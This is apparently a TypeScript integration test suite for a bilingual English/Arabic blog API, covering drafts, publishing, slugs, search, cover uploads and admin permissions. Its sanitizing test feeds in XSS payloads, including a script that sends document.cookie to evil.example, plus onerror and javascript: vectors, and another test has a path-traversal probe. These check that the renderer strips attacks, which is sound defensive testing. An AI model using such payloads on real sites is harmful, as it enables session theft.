import { existsSync } from 'node:fs';
import path from 'node:path';
import { createTestService } from '../test-support/fixtures';
import { bearer, describeEachDialect, inDays, TINY_PDF, TINY_PNG, type TestProvider, type TestUser } from '../test-support/harness';
import { SVG_WITH_SCRIPT, TINY_JPEG } from '../test-support/sample-files';

type Version = { title: string; summary?: string; body: string } | null;

let counter = 0;
/** A unique English title (slugs are made from it) so tests sharing one database never collide. */
const englishVersion = (title = `Garden care ${++counter}`, body = 'Water early in the morning, and mulch the beds.') => ({ title, summary: '', body });
const arabicVersion = (title = `العناية بالحديقة ${++counter}`, body = 'اسقِ النباتات في الصباح الباكر، وغطِّ الأحواض بالنشارة.') => ({
  title,
  summary: '',
  body,
});

describeEachDialect('Blog posts', (provider) => {
  let p: TestProvider;
  let admin: TestUser;
  let client: TestUser;
  beforeAll(async () => {
    p = provider();
    admin = await p.user({ role: 'Admin' });
    client = await p.user();
  });

  const create = (body: { slug?: string; en?: Version; ar?: Version; serviceIds?: number[] }, language = 'en') =>
    p.http().post('/Blog/admin/posts').set(bearer(admin.token)).set('Accept-Language', language).send(body);
  const publish = (id: number, publishedAt?: string) =>
    p
      .http()
      .post(`/Blog/admin/posts/${id}/publish`)
      .set(bearer(admin.token))
      .send(publishedAt ? { publishedAt } : {});
  async function publishedPost(body: { slug?: string; en?: Version; ar?: Version; serviceIds?: number[] }, publishedAt?: string) {
    const res = await create(body);
    expect(res.status).toBe(201);
    const published = await publish(res.body.result.id, publishedAt);
    expect(published.status).toBe(200);
    return published.body.result as { id: number; slug: string };
  }
  const publicList = (query: Record<string, string | number>) => p.http().get('/Blog/posts').query(query);
  const slugsOf = (res: { body: { result: { items?: Array<{ slug: string }> } | Array<{ slug: string }> } }) => {
    const result = res.body.result;
    return (Array.isArray(result) ? result : result.items!).map((item) => item.slug);
  };

  describe('states', () => {
    it('saves a new post as a draft, with the slug made from the English title and a summary cut from the text', async () => {
      const res = await create({ en: englishVersion('Five ways to keep a garden green in summer'), ar: null });
      expect(res.status).toBe(201);
      expect(res.body.message).toBe('Post saved as a draft');
      expect(res.body.result).toMatchObject({
        slug: 'five-ways-to-keep-a-garden-green-in-summer',
        status: 'draft',
        publishedAt: null,
        cover: null,
        serviceIds: [],
        translations: {
          en: { title: 'Five ways to keep a garden green in summer', summary: 'Water early in the morning, and mulch the beds.', readingMinutes: 1 },
        },
      });
      expect(res.body.result.translations.ar).toBeUndefined();
      // Nobody but an admin sees a draft.
      expect(slugsOf(await publicList({ language: 'en' }))).not.toContain('five-ways-to-keep-a-garden-green-in-summer');
      expect((await p.http().get('/Blog/posts/five-ways-to-keep-a-garden-green-in-summer')).status).toBe(404);
    });

    it('publishes, schedules, unpublishes and republishes', async () => {
      const created = await create({ en: englishVersion(), ar: arabicVersion() });
      const { id, slug } = created.body.result;

      const scheduled = await publish(id, inDays(3));
      expect(scheduled.body).toMatchObject({ message: 'Post scheduled: it will appear on its publish date', result: { status: 'scheduled' } });
      expect(slugsOf(await publicList({ language: 'en' }))).not.toContain(slug);
      expect((await p.http().get(`/Blog/posts/${slug}`)).status).toBe(404);
      expect(slugsOf(await p.http().get('/Blog/admin/posts').query({ status: 'scheduled' }).set(bearer(admin.token)))).toContain(slug);

      const now = await publish(id);
      expect(now.body).toMatchObject({ message: 'Post published', result: { status: 'published' } });
      expect(Date.now() - Date.parse(now.body.result.publishedAt)).toBeLessThan(60_000);
      expect(slugsOf(await publicList({ language: 'en' }))).toContain(slug);
      expect((await p.http().get(`/Blog/posts/${slug}`)).status).toBe(200);

      const back = await p.http().post(`/Blog/admin/posts/${id}/unpublish`).set(bearer(admin.token));
      expect(back.body).toMatchObject({ message: 'Post moved back to drafts', result: { status: 'draft', publishedAt: now.body.result.publishedAt } });
      expect(slugsOf(await publicList({ language: 'en' }))).not.toContain(slug);
      expect((await p.http().get(`/Blog/posts/${slug}`)).status).toBe(404);
      expect(slugsOf(await p.http().get('/Blog/admin/posts').query({ status: 'draft' }).set(bearer(admin.token)))).toContain(slug);

      const past = '2024-03-01T09:00:00.000Z';
      const again = await publish(id, past);
      expect(again.body.result).toMatchObject({ status: 'published', publishedAt: past });
    });

    it('keeps the state, date and cover when a post is edited, and replaces its versions', async () => {
      const post = await publishedPost({ en: englishVersion(), ar: arabicVersion() });
      const res = await p
        .http()
        .put(`/Blog/admin/posts/${post.id}`)
        .set(bearer(admin.token))
        .send({ slug: post.slug, en: englishVersion('A new title for the garden post', 'New **text**.'), ar: null });
      expect(res.status).toBe(200);
      expect(res.body.message).toBe('Post saved');
      expect(res.body.result).toMatchObject({
        status: 'published',
        slug: post.slug,
        translations: { en: { title: 'A new title for the garden post', body: 'New **text**.' } },
      });
      expect(res.body.result.translations.ar).toBeUndefined();
      expect(slugsOf(await publicList({ language: 'ar' }))).not.toContain(post.slug);
    });

    it('deletes a post', async () => {
      const post = await publishedPost({ en: englishVersion() });
      const res = await p.http().delete(`/Blog/admin/posts/${post.id}`).set(bearer(admin.token));
      expect(res.body).toMatchObject({ isSuccess: true, message: 'Post deleted' });
      expect((await p.http().get(`/Blog/posts/${post.slug}`)).status).toBe(404);
      expect((await p.http().get(`/Blog/admin/posts/${post.id}`).set(bearer(admin.token))).status).toBe(404);
      expect((await p.http().delete(`/Blog/admin/posts/${post.id}`).set(bearer(admin.token))).body).toMatchObject({
        code: 'NOT_FOUND',
        message: 'Post not found',
      });
    });
  });

  describe('languages', () => {
    it('lists a post only in the languages it is written in', async () => {
      const english = await publishedPost({ en: englishVersion() });
      const arabic = await publishedPost({ slug: `arabic-only-${++counter}`, ar: arabicVersion() });
      const both = await publishedPost({ en: englishVersion(), ar: arabicVersion() });

      const inEnglish = slugsOf(await publicList({ language: 'en' }));
      expect(inEnglish).toEqual(expect.arrayContaining([english.slug, both.slug]));
      expect(inEnglish).not.toContain(arabic.slug);
      const inArabic = slugsOf(await publicList({ language: 'ar' }));
      expect(inArabic).toEqual(expect.arrayContaining([arabic.slug, both.slug]));
      expect(inArabic).not.toContain(english.slug);

      // Without ?language the request's language decides.
      expect(slugsOf(await p.http().get('/Blog/posts').set('Accept-Language', 'ar'))).toContain(arabic.slug);

      const item = (await publicList({ language: 'ar' })).body.result.find((post: { slug: string }) => post.slug === both.slug);
      expect(item).toMatchObject({ language: 'ar', languages: ['en', 'ar'], readingMinutes: 1 });
      expect(item.title).toMatch(/^العناية بالحديقة/);
      expect(item).not.toHaveProperty('body');
    });

    it('reads one version, or says which exist when the post is not written in the asked language', async () => {
      const english = await publishedPost({ en: englishVersion() });
      const ar = await p.http().get(`/Blog/posts/${english.slug}`).query({ language: 'ar' });
      expect(ar.status).toBe(200);
      expect(ar.body.result).toMatchObject({ slug: english.slug, languages: ['en'], translations: {} });
      const en = await p.http().get(`/Blog/posts/${english.slug}`).query({ language: 'en' });
      expect(en.body.result.translations.en).toMatchObject({ html: '<p>Water early in the morning, and mulch the beds.</p>', readingMinutes: 1 });
      const both = await publishedPost({ en: englishVersion(), ar: arabicVersion() });
      expect(Object.keys((await p.http().get(`/Blog/posts/${both.slug}`)).body.result.translations)).toEqual(['en', 'ar']);
      expect((await p.http().get(`/Blog/posts/${both.slug}`).query({ language: 'fr' })).body.errors).toEqual({ language: ['Language must be en or ar'] });
    });

    it('needs at least one language, and a slug for an Arabic-only post', async () => {
      const none = await create({ en: null, ar: null });
      expect(none.status).toBe(400);
      expect(none.body.errors).toEqual({ en: ['Write the article in at least one language'] });
      const arabicOnly = await create({ ar: arabicVersion() }, 'ar');
      expect(arabicOnly.status).toBe(400);
      expect(arabicOnly.body.errors.slug).toEqual(['أدخل عنوان الرابط (slug)، إذ لا يمكن إنشاؤه من عنوان عربي']);
      const incomplete = await create({ en: { title: 'No', body: '' } });
      expect(incomplete.body.errors).toEqual({ 'en.title': ['Title must be at least 3 characters'], 'en.body': ['The article text is required'] });
    });
  });

  describe('list', () => {
    it('pages the newest first and searches the version in the asked language', async () => {
      const marker = `zz${Date.now()}`;
      const made: string[] = [];
      for (const [i, date] of ['2023-01-05', '2023-03-05', '2023-02-05'].entries()) {
        made.push(
          (
            await publishedPost(
              { en: englishVersion(`Marker ${marker} post ${i}`, `Body about ${marker} irrigation.`), ar: arabicVersion() },
              `${date}T10:00:00Z`,
            )
          ).slug,
        );
      }
      const page1 = await publicList({ language: 'en', search: marker, page: 1, pageSize: 2 });
      expect(page1.body.result).toMatchObject({ total: 3, page: 1, pageSize: 2 });
      expect(slugsOf(page1)).toEqual([made[1], made[2]]);
      expect(slugsOf(await publicList({ language: 'en', search: marker, page: 2, pageSize: 2 }))).toEqual([made[0]]);
      // The Arabic versions do not contain the marker.
      expect(slugsOf(await publicList({ language: 'ar', search: marker }))).toEqual([]);
      expect(slugsOf(await publicList({ language: 'en', search: `${marker} drainage` }))).toHaveLength(0);
      expect(slugsOf(await publicList({ language: 'en', search: `about ${marker.toUpperCase()}` }))).toHaveLength(3);
    });

    it('refuses bad list parameters', async () => {
      expect((await publicList({ language: 'de' })).status).toBe(400);
      expect((await publicList({ page: 0 })).body.errors).toHaveProperty('page');
      expect((await p.http().get('/Blog/admin/posts').query({ status: 'archived' }).set(bearer(admin.token))).status).toBe(400);
    });

    it('filters the admin list by state and language and searches both versions and the slug', async () => {
      const arabic = `arabic-draft-${++counter}`;
      await create({ slug: arabic, ar: arabicVersion('مسودة عن تشطيب المباني') });
      const res = await p.http().get('/Blog/admin/posts').query({ language: 'ar', status: 'draft', search: 'تشطيب', page: 1 }).set(bearer(admin.token));
      expect(res.body.result.items).toEqual([
        expect.objectContaining({ slug: arabic, status: 'draft', languages: ['ar'], titles: { ar: 'مسودة عن تشطيب المباني' } }),
      ]);
      expect(slugsOf(await p.http().get('/Blog/admin/posts').query({ search: arabic }).set(bearer(admin.token)))).toEqual([arabic]);
      expect(slugsOf(await p.http().get('/Blog/admin/posts').query({ language: 'en', search: arabic }).set(bearer(admin.token)))).toEqual([]);
    });
  });

  describe('slugs', () => {
    it('keeps slugs unique across posts (409 on create and on update), and lets a post keep its own', async () => {
      const n = ++counter;
      const first = await create({ slug: `unique-${n}`, en: englishVersion() });
      const slug = first.body.result.slug as string;
      const clash = await create({ slug, ar: arabicVersion() }, 'ar');
      expect(clash.status).toBe(409);
      expect(clash.body).toMatchObject({
        code: 'CONFLICT',
        message: 'عنوان الرابط (slug) مستخدم في مقالة أخرى',
        errors: { slug: ['عنوان الرابط (slug) مستخدم في مقالة أخرى'] },
      });
      // Made from a title that another post's slug already has.
      const sameTitle = await create({ en: englishVersion(`Unique ${n}`) });
      expect(sameTitle.status).toBe(409);

      const second = await create({ slug: `unique-second-${n}`, en: englishVersion() });
      const update = await p.http().put(`/Blog/admin/posts/${second.body.result.id}`).set(bearer(admin.token)).send({ slug, en: englishVersion() });
      expect(update.status).toBe(409);
      const own = await p.http().put(`/Blog/admin/posts/${first.body.result.id}`).set(bearer(admin.token)).send({ slug, en: englishVersion() });
      expect(own.status).toBe(200);
    });

    it('accepts lowercase Latin words joined by hyphens only', async () => {
      for (const slug of ['Has Spaces', 'under_score', '-leading', 'double--hyphen', 'عربي', 'x'.repeat(81)]) {
        const res = await create({ slug, en: englishVersion() });
        expect({ slug, status: res.status, field: Object.keys(res.body.errors ?? {}) }).toEqual({ slug, status: 400, field: ['slug'] });
      }
      const n = ++counter;
      const upper = await create({ slug: `Mixed-Case-${n}`, en: englishVersion() });
      expect(upper.body.result.slug).toBe(`mixed-case-${n}`);
      expect((await p.http().get('/Blog/posts/..%2Fetc')).status).toBe(404);
    });
  });

  describe('sanitizing', () => {
    it('renders a body with <script>, onerror= and javascript: links without any of them', async () => {
      const body = [
        'Useful tips <script>fetch("https://evil.example/?c=" + document.cookie)</script>',
        '',
        '<img src="/files/0f8fad5b-d9cb-469f-a165-70867728950e.png" onerror="alert(1)" alt="garden">',
        '',
        '[Book now](javascript:alert(1)) and <a href="JaVaScRiPt:alert(2)" onclick="alert(3)">call</a>',
        '',
        '<iframe src="https://evil.example"></iframe><p style="color:red" onmouseover="alert(4)">Styled</p>',
        '',
        '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
      ].join('\n');
      const post = await publishedPost({ en: englishVersion(undefined, body) });
      const html = (await p.http().get(`/Blog/posts/${post.slug}`).query({ language: 'en' })).body.result.translations.en.html as string;
      expect(html).not.toMatch(/<script|<iframe|\son\w+=|javascript:|data:|style=/i);
      expect(html).not.toContain('document.cookie');
      expect(html).toContain('Useful tips');
      expect(html).toContain('Book now');
      expect(html).toContain('<img alt="garden" src="/files/0f8fad5b-d9cb-469f-a165-70867728950e.png" />');
      // The source is kept as written, for the editor.
      expect((await p.http().get(`/Blog/admin/posts/${post.id}`).set(bearer(admin.token))).body.result.translations.en.body).toBe(body);
    });

    it('previews Markdown for the editor the same way', async () => {
      const res = await p.http().post('/Blog/admin/preview').set(bearer(admin.token)).send({ body: '## Hi\n\n<script>alert(1)</script>Text', language: 'ar' });
      expect(res.body.result).toEqual({ html: '<h2>Hi</h2>\nText', readingMinutes: 1 });
    });
  });

  describe('related services and cover', () => {
    it('links existing services only, and shows their titles and first picture on the post', async () => {
      const serviceId = await createTestService(p, admin, 'Gardens for the blog');
      const missing = await create({ en: englishVersion(), serviceIds: [serviceId, 999999] });
      expect(missing.status).toBe(400);
      expect(missing.body.errors).toEqual({ serviceIds: ['This service does not exist'] });
      expect((await create({ en: englishVersion(), serviceIds: [serviceId, serviceId] })).body.errors).toEqual({
        serviceIds: ['Each related service can be chosen once'],
      });
      const post = await publishedPost({ en: englishVersion(), serviceIds: [serviceId] });
      const read = await p.http().get(`/Blog/posts/${post.slug}`);
      expect(read.body.result.relatedServices).toEqual([{ id: serviceId, title: 'Gardens for the blog', arabicTitle: 'ع', imageUrl: null }]);
      expect(slugsOf(await publicList({ language: 'en', serviceId }))).toEqual([post.slug]);
      // An archived service leaves the post.
      await p.http().delete(`/Services/${serviceId}`).set(bearer(admin.token));
      expect((await p.http().get(`/Blog/posts/${post.slug}`)).body.result.relatedServices).toEqual([]);
    });

    it('takes one image as the cover, replaces it, serves it and removes its file with the post', async () => {
      const post = await publishedPost({ en: englishVersion() });
      const first = await p.http().post(`/Blog/admin/posts/${post.id}/cover`).set(bearer(admin.token)).attach('files', TINY_PNG, 'cover.png');
      expect(first.status).toBe(200);
      expect(first.body).toMatchObject({ message: 'Cover image saved', result: { cover: { fileName: 'cover.png', contentType: 'image/png' } } });
      const firstUrl = first.body.result.cover.fileUrl as string;
      const served = await p.http().get(firstUrl);
      expect(served.status).toBe(200);
      expect(served.headers['content-type']).toBe('image/png');
      expect((await publicList({ language: 'en' })).body.result.find((item: { id: number }) => item.id === post.id).cover.fileUrl).toBe(firstUrl);

      const second = await p.http().post(`/Blog/admin/posts/${post.id}/cover`).set(bearer(admin.token)).attach('files', TINY_JPEG, 'cover.jpg');
      const secondUrl = second.body.result.cover.fileUrl as string;
      expect(secondUrl).toMatch(/\.jpg$/);
      expect((await p.http().get(firstUrl)).status).toBe(404);
      expect(existsSync(path.join(p.config.uploadDir, path.basename(firstUrl)))).toBe(false);

      await p.http().delete(`/Blog/admin/posts/${post.id}`).set(bearer(admin.token));
      expect(existsSync(path.join(p.config.uploadDir, path.basename(secondUrl)))).toBe(false);
    });

    it('refuses a cover that is not an image, or more than one file, and keeps no file of it', async () => {
      const post = await publishedPost({ en: englishVersion() });
      const cover = () => p.http().post(`/Blog/admin/posts/${post.id}/cover`).set(bearer(admin.token));
      const pdf = await cover().attach('files', TINY_PDF, 'cover.pdf');
      expect(pdf.status).toBe(400);
      expect(pdf.body).toMatchObject({ code: 'UNSUPPORTED_FILE_TYPE', errors: { files: ['The cover must be an image (PNG, JPEG, GIF or WebP)'] } });
      const svg = await cover().attach('files', SVG_WITH_SCRIPT, 'cover.png');
      expect(svg.body.code).toBe('UNSUPPORTED_FILE_TYPE');
      const two = await cover().attach('files', TINY_PNG, 'a.png').attach('files', TINY_PNG, 'b.png');
      expect(two.body.errors).toEqual({ files: ['Send exactly one cover image'] });
      expect((await cover()).body.errors).toEqual({ files: ['Send exactly one cover image'] });
      expect((await p.http().post('/Blog/admin/posts/999999/cover').set(bearer(admin.token)).attach('files', TINY_PNG, 'c.png')).status).toBe(404);
      const { readdirSync } = await import('node:fs');
      expect(readdirSync(p.config.uploadDir).filter((name) => name.startsWith('incoming-'))).toEqual([]);
      expect((await p.http().get(`/Blog/admin/posts/${post.id}`).set(bearer(admin.token))).body.result.cover).toBeNull();
    });

    it('removes a cover', async () => {
      const post = await publishedPost({ en: englishVersion() });
      const set = await p.http().post(`/Blog/admin/posts/${post.id}/cover`).set(bearer(admin.token)).attach('files', TINY_PNG, 'cover.png');
      const removed = await p.http().delete(`/Blog/admin/posts/${post.id}/cover`).set(bearer(admin.token));
      expect(removed.body).toMatchObject({ message: 'Cover image removed', result: { cover: null } });
      expect((await p.http().get(set.body.result.cover.fileUrl)).status).toBe(404);
    });
  });

  it('lets only admins write', async () => {
    expect((await p.http().post('/Blog/admin/posts').set(bearer(client.token)).send({ en: englishVersion() })).status).toBe(403);
    expect((await p.http().get('/Blog/admin/posts').set(bearer(client.token))).status).toBe(403);
    expect((await p.http().post('/Blog/admin/posts').send({ en: englishVersion() })).status).toBe(401);
  });
});
